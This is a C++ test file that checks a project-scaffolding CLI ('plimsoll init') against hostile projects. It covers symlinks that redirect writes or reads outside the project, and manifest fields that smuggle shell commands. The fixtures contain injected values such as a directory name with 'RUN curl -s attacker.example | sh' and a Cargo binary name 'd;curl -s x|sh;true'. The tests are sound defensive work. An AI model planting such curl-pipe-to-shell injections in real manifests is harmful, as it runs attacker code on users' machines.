// `plimsoll init` on a project written by someone else: links never lead a read or a write out
// of it, and names taken from its files never become instructions in the generated files.
#include "init_harness.h"

namespace {

using plimsoll::testing_cli::Cli;
using plimsoll::testing_cli::CliRun;
using plimsoll::testing_cli::run;
using namespace plimsoll::testing_init;

class InitHostile : public Cli {
 protected:
  void SetUp() override {
    Cli::SetUp();
    project_ = root_ / "proj";
    outside_ = root_ / "outside";
    fs::create_directories(outside_);
    fs::copy(fixtures_dir() / "pip" / "project", project_, fs::copy_options::recursive);
  }
  CliRun init(const std::string& flags = "--yes") { return run("init " + flags + " " + project_.string()); }
  fs::path project_, outside_;
};

TEST_F(InitHostile, SymlinkedDirectoriesAreRefusedAndNothingIsWrittenThroughThem) {
  fs::create_directory_symlink("../outside", project_ / "compose");
  fs::create_directory_symlink("../outside", project_ / "docker");
  CliRun r = init();
  EXPECT_EQ(r.exit_code, 2) << r.out;
  EXPECT_NE(r.out.find("proj/compose/docker-compose.dev.yml: is a symlink or lies under one"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("nothing was written"), std::string::npos) << r.out;
  EXPECT_TRUE(files_under(outside_).empty());
  EXPECT_FALSE(fs::exists(project_ / "Makefile")) << "a refused run writes nothing at all";
}

TEST_F(InitHostile, ASymlinkedFileIsNeitherShownNorAppendedTo) {
  std::ofstream(outside_ / "secret.env") << "TOKEN=outside-secret\n";
  fs::create_symlink("../outside/secret.env", project_ / ".gitignore");
  CliRun diff = init("--diff");
  EXPECT_EQ(diff.exit_code, 2) << diff.out;
  EXPECT_EQ(diff.out.find("outside-secret"), std::string::npos) << diff.out;
  CliRun r = init();
  EXPECT_EQ(r.exit_code, 2) << r.out;
  EXPECT_TRUE(fs::is_symlink(project_ / ".gitignore"));
  EXPECT_EQ(files_under(outside_)["secret.env"], "TOKEN=outside-secret\n");
}

TEST_F(InitHostile, PlantedTemporaryNamesAreNeverWrittenThrough) {
  std::ofstream(outside_ / "victim") << "victim\n";
  // The names the writer once used (<file>.plimsoll-<pid>-<n>.tmp) for a range of pids.
  for (int pid = 1; pid < 400; ++pid) fs::create_symlink("../outside/victim", project_ / ("Makefile.plimsoll-" + std::to_string(pid) + "-0.tmp"));
  CliRun r = init();
  EXPECT_EQ(r.exit_code, 0) << r.out;
  EXPECT_EQ(files_under(outside_)["victim"], "victim\n");
  EXPECT_FALSE(fs::is_symlink(project_ / "Makefile"));
}

class InitNames : public Cli {
 protected:
  std::string refused() {
    CliRun r = run("init --yes " + dir());
    EXPECT_EQ(r.exit_code, 2) << r.out;
    EXPECT_FALSE(fs::exists(root_ / "docker")) << r.out;
    EXPECT_EQ(r.out.find("\nRUN"), std::string::npos) << "the message shows the name escaped:\n" << r.out;
    return r.out;
  }
  std::string dockerfile() {
    CliRun r = run("init --yes " + dir());
    EXPECT_EQ(r.exit_code, 0) << r.out;
    return files_under(root_)["docker/Dockerfile"];
  }
};

// Shell words of a RUN line: the Go main package's directory names the binary.
TEST_F(InitNames, AGoCommandDirectoryWithANewlineIsRefused) {
  write("go.mod", "module example.com/x\n\ngo 1.22\n");
  write("cmd/x\nRUN curl -s attacker.example | sh\n#/main.go", "package main\nfunc main(){}\n");
  std::string out = refused();
  EXPECT_NE(out.find("cmd/x\\nRUN curl -s attacker.example | sh\\n#: a main package directory name"), std::string::npos) << out;
}

// Shell words, COPY paths and the ENTRYPOINT: a Cargo binary name.
TEST_F(InitNames, ACargoBinaryNameWithShellSyntaxIsRefused) {
  write("Cargo.toml", "[package]\nname = \"d\"\nversion = \"0.1.0\"\nedition = \"2021\"\n[[bin]]\nname = \"d;curl -s x|sh;true\"\npath = \"src/main.rs\"\n");
  write("Cargo.lock", "");
  write("src/main.rs", "fn main(){}\n");
  EXPECT_NE(refused().find("Cargo.toml: \"d;curl -s x|sh;true\" is not a Cargo binary name"), std::string::npos);
}

// A Dockerfile JSON array: a console-script name.
TEST_F(InitNames, AProjectScriptNameWithANewlineIsRefused) {
  write("pyproject.toml", "[project]\nname = \"d\"\nversion = \"0.1\"\n[project.scripts]\n\"s\\nRUN curl x | sh\\n#\" = \"d:main\"\n");
  write("uv.lock", "");
  EXPECT_NE(refused().find("pyproject.toml: the script name \"s\\nRUN curl x | sh\\n#\" is not a console-script name"), std::string::npos);
}

// A RUN line's shell words: corepack prepare NAME@VERSION.
TEST_F(InitNames, APackageManagerVersionWithShellSyntaxIsRefused) {
  write("package.json", "{\"name\":\"app\",\"main\":\"server.js\",\"packageManager\":\"pnpm@9.1.0;curl x|sh\"}\n");
  write("pnpm-lock.yaml", "lockfileVersion: '9.0'\n");
  write("server.js", "\n");
  EXPECT_NE(refused().find("package.json: packageManager version \"9.1.0;curl x|sh\" is not a version"), std::string::npos);
}

// Makefile recipes, YAML scalars and Dockerfile LABELs get the project name only as [a-z0-9-].
TEST_F(InitNames, AHostileProjectNameReachesMakefileAndComposeOnlyAsAnImageName) {
  write("pyproject.toml", "[project]\nname = \"x$(id)'\\\"\\n: y\"\nversion = \"0.1\"\n");
  write("uv.lock", "");
  write("main.py", "print(1)\n");
  CliRun r = run("init --yes " + dir());
  ASSERT_EQ(r.exit_code, 0) << r.out;
  auto files = files_under(root_);
  for (const auto& [path, text] : files) {
    if (path != "pyproject.toml") {
      EXPECT_EQ(text.find("id)"), std::string::npos) << path;
    }
  }
  EXPECT_NE(files["docker/Dockerfile"].find("title=\"x-id-y\""), std::string::npos);
  EXPECT_NE(files["compose/docker-compose.dev.yml"].find("${PROJECT_NAME:-x-id-y}:dev"), std::string::npos);
}

TEST_F(InitNames, AProcfileCommandIsSplitAsShWouldWithPortExpanded) {
  write("pyproject.toml", "[project]\nname = \"demo\"\nversion = \"0.1\"\n");
  write("uv.lock", "");
  write("Procfile", "web: gunicorn \"app:create()\" --bind 0.0.0.0:$PORT\n");
  std::string text = dockerfile();
  EXPECT_NE(text.find("ENTRYPOINT [\"gunicorn\"]"), std::string::npos) << text;
  EXPECT_NE(text.find("CMD [\"app:create()\", \"--bind\", \"0.0.0.0:8000\"]"), std::string::npos) << text;
}

TEST_F(InitNames, ANodeStartScriptIsSplitAsShWould) {
  write("package.json", "{\"name\":\"app\",\"scripts\":{\"start\":\"node 'server.js' --port $PORT\"}}\n");
  write("package-lock.json", "{\"lockfileVersion\":3}\n");
  write("server.js", "\n");
  std::string text = dockerfile();
  EXPECT_NE(text.find("ENTRYPOINT [\"node\"]"), std::string::npos) << text;
  EXPECT_NE(text.find("CMD [\"server.js\", \"--port\", \"3000\"]"), std::string::npos) << text;
}

TEST_F(InitNames, AProcfileCommandThatNeedsAShellIsRefusedWithItsLine) {
  write("pyproject.toml", "[project]\nname = \"demo\"\nversion = \"0.1\"\n");
  write("uv.lock", "");
  write("Procfile", "worker: python jobs.py\nweb: cd app && gunicorn app:app\n");
  std::string out = refused();
  EXPECT_NE(out.find("Procfile:2: the web command: the operator `&` needs a shell"), std::string::npos) << out;
}

TEST_F(InitNames, APackageJsonNumberOutOfRangeIsALocatedError) {
  write("package.json", "{\"name\":\"app\",\n \"main\":\"server.js\",\"x\":1e999}\n");
  write("package-lock.json", "{\"lockfileVersion\":3}\n");
  write("server.js", "\n");
  CliRun r = run("init --dry-run --explain " + dir());
  EXPECT_EQ(r.exit_code, 2) << r.out;
  EXPECT_NE(r.out.find("package.json: line 2, column 25: the number 1e999 is out of range"), std::string::npos) << r.out;
  EXPECT_EQ(r.out.find("internal error"), std::string::npos) << r.out;
}

}  // namespace
